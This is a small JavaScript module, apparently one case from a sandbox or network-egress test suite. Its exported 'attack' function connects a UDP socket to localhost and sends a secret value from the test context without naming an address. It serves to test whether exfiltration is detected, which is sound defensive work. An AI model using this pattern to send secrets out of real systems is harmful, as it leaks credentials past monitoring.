// Connected UDP socket, then send without an address.
import { createSocket } from 'node:dgram';
export const meta = { kind: 'network', evidence: 'udp' };
export default function attack(ctx) {
  return new Promise((resolve, reject) => {
    const socket = createSocket('udp4');
    socket.on('error', (error) => { socket.close(); reject(error); });
    socket.connect(ctx.udpPort, '127.0.0.1', (error) => {
      if (error) { socket.close(); return reject(error); }
      socket.send(ctx.secret, (sendError) => { socket.close(); if (sendError) reject(sendError); else resolve('sent'); });
    });
  });
}
